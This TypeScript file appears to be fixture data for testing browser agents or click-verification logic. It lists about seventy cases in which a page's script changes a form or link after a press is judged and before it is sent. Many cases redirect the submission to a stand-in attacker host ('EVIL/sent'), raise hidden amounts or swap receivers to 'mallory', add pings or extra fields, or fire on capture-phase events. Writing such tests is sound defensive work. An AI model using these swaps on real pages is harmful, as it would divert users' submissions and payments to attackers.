// Ways in which a page changes what a press sends after it was judged. `EVIL` stands for the address of another site.

export interface Swap {
  name: string;
  html: string;
  /** The element to press. With `key`: the field in which it is pressed. */
  press: string;
  key?: string;
  /** The script that changes the page between the look and the press. */
  change: string;
}

const form = (inside: string, attributes = 'action="/sent" method="post"') =>
  `<form id="f" ${attributes}><label>Note <input name="note" value="hi"></label>${inside}</form>`;
const button = "<button id=b>Send it</button>";
const plain = form(button);
const hidden = form(
  `<input type="hidden" name="amount" value="10"><input type="hidden" name="to" value="alice">${button}`,
);
const list = form(
  `<label>To <select name="to" id="s"><option value="1">Alice</option><option value="2">Bob</option></select></label>${button}`,
);
const radios = form(`<label><input type="radio" name="plan" value="free" checked id="r1"> Free</label>
  <label><input type="radio" name="plan" value="paid" id="r2"> Paid</label>${button}`);
const box = form(`<label><input type="checkbox" name="extra" value="no" checked id="c"> Extra</label>${button}`);
const other = '<form id="g" action="EVIL/sent" method="post"></form>';
const link = '<a id="b" href="/sent?kind">Read more</a>';

const send = (name: string, html: string, change: string): Swap => ({ name, html, press: "Send it", change });
const follow = (name: string, html: string, change: string): Swap => ({ name, html, press: "Read more", change });
const enter = (name: string, html: string, change: string): Swap => ({
  name,
  html,
  press: "Note",
  key: "Enter",
  change,
});

/** Changes the page when an event reaches it, before the page's own listeners. */
const on = (event: string, change: string, target = "window") =>
  `${target}.addEventListener("${event}", () => { ${change} }, { capture: true });`;

export const swaps: readonly Swap[] = [
  send("the action, to another site", plain, 'f.action = "EVIL/sent"'),
  send("the action, within the site", plain, 'f.action = "/sent?evil"'),
  send("a new formaction", plain, 'b.formAction = "EVIL/sent"'),
  send(
    "the formaction",
    form('<button id="b" formaction="/sent?a">Send it</button>'),
    'b.setAttribute("formaction", "EVIL/sent")',
  ),
  send(
    "a new base",
    plain,
    'document.head.insertAdjacentHTML("afterbegin", `<base href="EVIL/x/">`); f.setAttribute("action", "sent")',
  ),
  send(
    "the base of a relative action",
    `<base href="/a/" id="base">${form(button, 'action="../sent" method="post"')}`,
    'base.href = "EVIL/a/"',
  ),
  send("the form of the button", plain + other, 'b.setAttribute("form", "g")'),
  send(
    "the id that the button's form has",
    `<form id="f" action="/sent" method="post"></form>${other}<button id="b" form="f">Send it</button>`,
    'const [one, two] = [f, g]; one.id = "x"; two.id = "f"',
  ),
  send("the method, to GET", plain, 'f.method = "get"'),
  send("the method, to POST", form(button, 'action="/sent"'), 'f.method = "post"'),
  send("a new formmethod", plain, 'b.setAttribute("formmethod", "get")'),
  send("a hidden amount", hidden, 'f.elements.amount.value = "1000"'),
  send("a hidden receiver", hidden, 'f.elements.to.value = "mallory"'),
  send(
    "a new hidden field",
    plain,
    'f.insertAdjacentHTML("beforeend", `<input type="hidden" name="bcc" value="mallory">`)',
  ),
  send("a hidden field less", hidden, "f.elements.to.remove()"),
  send(
    "a hidden field that was disabled",
    form(`<input type="hidden" name="to" value="mallory" disabled id="h">${button}`),
    "h.disabled = false",
  ),
  send("a hidden field of another name", hidden, 'f.elements.to.name = "cc"'),
  send(
    "a field from elsewhere, by form=",
    `${plain}<input type="hidden" name="to" value="mallory" id="h">`,
    'h.setAttribute("form", "f")',
  ),
  send(
    "a field that style hides",
    form(`<input name="to" value="alice" style="display:none" id="h">${button}`),
    'h.value = "mallory"',
  ),
  send(
    "a read-only field",
    form(`<label>To <input name="to" value="alice" readonly id="h"></label>${button}`),
    'h.value = "mallory"',
  ),
  send("the value behind the chosen option", list, 's.options[0].value = "666"'),
  send("the chosen option", list, "s.selectedIndex = 1"),
  send("the value behind a radio button", radios, 'r1.value = "gold"'),
  send("the chosen radio button", radios, "r2.checked = true"),
  send("the value behind a checkbox", box, 'c.value = "all"'),
  send("a checkbox", box, "c.checked = false"),
  send("the target", plain, 'f.target = "elsewhere"'),
  send("a new formtarget", plain, 'b.setAttribute("formtarget", "elsewhere")'),
  send("the target of the base", plain, 'document.head.insertAdjacentHTML("afterbegin", `<base target="elsewhere">`)'),
  send("the encoding", plain, 'f.enctype = "text/plain"'),
  send("a new formenctype", plain, 'b.setAttribute("formenctype", "multipart/form-data")'),
  send("the value of the button", form('<button id="b" name="do" value="save">Send it</button>'), 'b.value = "delete"'),
  send("the name of the button", form('<button id="b" name="save" value="1">Send it</button>'), 'b.name = "delete"'),
  send("a button that had no effect", form('<button id="b" type="button">Send it</button>'), 'b.type = "submit"'),
  send(
    "a button in a form with a field named action",
    form(`<input type="hidden" name="action" value="x"><input type="hidden" name="elements" value="y">${button}`),
    'f.setAttribute("action", "EVIL/sent")',
  ),
  send(
    "an image button",
    form('<input type="image" alt="Send it" id="b" src="data:," width="60" height="20">'),
    'b.setAttribute("formaction", "EVIL/sent")',
  ),
  send(
    "the value of a custom element",
    `<script>customElements.define("x-to", class extends HTMLElement { static formAssociated = true; constructor() { super(); this.inner = this.attachInternals(); this.inner.setFormValue("alice") } })</script>${form(`<x-to name="to" id="x"></x-to>${button}`)}`,
    'x.inner.setFormValue("mallory")',
  ),
  send(
    "a group of hidden fields",
    form(`<fieldset disabled id="g" style="display:none"><input name="to" value="mallory"></fieldset>${button}`),
    "g.disabled = false",
  ),
  send(
    "a hidden text area",
    form(`<textarea name="to" hidden id="h">alice</textarea>${button}`),
    'h.value = "mallory"',
  ),
  send(
    "a hidden list",
    form(`<select multiple name="to" hidden id="h"><option selected>a<option>b</select>${button}`),
    "h.options[1].selected = true",
  ),
  send(
    "the address of the page, of a form without an action",
    `<form method="post">${button}</form>`,
    'history.replaceState(null, "", "/sent?evil")',
  ),
  send(
    "a hidden field in a shadow root",
    '<x-a id="h"></x-a><script>h.attachShadow({ mode: "open" }).innerHTML = `<form action="/sent" method="post"><input type="hidden" name="to" value="alice"><button>Send it</button></form>`</script>',
    'h.shadowRoot.querySelector("input").value = "mallory"',
  ),
  send(
    "the form of a button in a shadow root",
    '<x-a id="h"></x-a><script>h.attachShadow({ mode: "open" }).innerHTML = `<form id="f" action="/sent" method="post"></form><form id="g" action="/sent?g" method="post"></form><button form="f">Send it</button>`</script>',
    'h.shadowRoot.querySelector("button").setAttribute("form", "g")',
  ),
  send(
    "a link around a button that sends nothing",
    '<div id="w"><button type="button" id="b">Send it</button></div>',
    'const a = document.createElement("a"); a.href = "EVIL/sent"; w.before(a); a.append(w)',
  ),
  send(
    "the action, in a form whose fields have the names of its properties",
    form(
      `${["method", "target", "attributes", "enctype", "ownerDocument", "baseURI", "parentNode"].map((name) => `<input type="hidden" name="${name}" value="x">`).join("")}${button}`,
    ),
    'f.setAttribute("action", "EVIL/sent")',
  ),
  send("words in the label", plain, 'b.textContent = "Send it twice"'),
  send("the action, on mousedown", plain, on("mousedown", 'f.action = "EVIL/sent"')),
  send("a hidden amount, on pointerdown", hidden, on("pointerdown", 'f.elements.amount.value = "1000"')),
  send("the action, on focus", plain, on("focus", 'f.action = "EVIL/sent"')),
  send("the action, on mouseup", plain, on("mouseup", 'f.action = "EVIL/sent"', "b")),
  send("the action, on click in the window", plain, on("click", 'f.action = "EVIL/sent"')),
  send("the action, on click on the button", plain, on("click", 'f.action = "EVIL/sent"', "b")),
  send("the action, on submit", plain, on("submit", 'f.action = "EVIL/sent"', "f")),
  follow("a link to another site", link, 'b.href = "EVIL/sent"'),
  follow("a link within the site", link, 'b.href = "/sent?evil"'),
  follow("the base of a link", '<base href="/" id="base"><a id="b" href="sent">Read more</a>', 'base.href = "EVIL/"'),
  follow("a ping", link, 'b.ping = "EVIL/sent"'),
  follow("a download", link, 'b.download = "x"'),
  follow("the target of a link", link, 'b.target = "elsewhere"'),
  follow(
    "a link around the element",
    '<a id="b" href="/sent"><span role="button" tabindex="0">Read more</span></a>',
    'b.href = "EVIL/sent"',
  ),
  follow(
    "a link in a drawing",
    '<svg width="100" height="30"><a id="b" href="/sent"><text y="20">Read more</text></a></svg>',
    'b.setAttribute("href", "EVIL/sent")',
  ),
  follow(
    "the animated address of a link in a drawing",
    '<svg width="200" height="30"><a id="b" href="/sent"><text y="20">Read more</text></a></svg>',
    'const set = document.createElementNS("http://www.w3.org/2000/svg", "set"); set.setAttribute("attributeName", "href"); set.setAttribute("to", "EVIL/sent"); b.append(set)',
  ),
  follow(
    "an area of an image",
    '<map name="m"><area id="b" shape="rect" coords="0,0,200,50" href="/sent" alt="Read more"></map><img usemap="#m" width="200" height="50" src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=">',
    'b.href = "EVIL/sent"',
  ),
  follow("a report to an advertiser", link, 'b.setAttribute("attributionsrc", "EVIL/sent")'),
  follow(
    "a link in a shadow root",
    '<x-a id="h"></x-a><script>h.attachShadow({ mode: "open" }).innerHTML = `<a href="/sent">Read more</a>`</script>',
    'h.shadowRoot.querySelector("a").href = "EVIL/sent"',
  ),
  follow("a link, on mousedown", link, on("mousedown", 'b.href = "EVIL/sent"')),
  enter("Enter: the action", plain, 'f.action = "EVIL/sent"'),
  enter("Enter: a hidden receiver", hidden, 'f.elements.to.value = "mallory"'),
  enter("Enter: the formaction of the button", plain, 'b.setAttribute("formaction", "EVIL/sent")'),
  enter(
    "Enter: another button comes first",
    plain,
    'f.insertAdjacentHTML("afterbegin", `<button name="do" value="pay">Pay</button>`)',
  ),
  enter(
    "Enter: a button that was disabled",
    form(`<button id="c" name="do" value="pay" disabled>Pay</button>${button}`),
    "c.disabled = false",
  ),
  enter(
    "Enter: the form of the field",
    `<form id="f" action="/sent" method="post"></form>${other}<label>Note <input name="note" id="n" form="f"></label>`,
    'n.setAttribute("form", "g")',
  ),
  enter("Enter: the action, on keypress", plain, on("keypress", 'f.action = "EVIL/sent"')),
  enter("Enter: the action, on keydown", plain, on("keydown", 'f.action = "EVIL/sent"')),
];
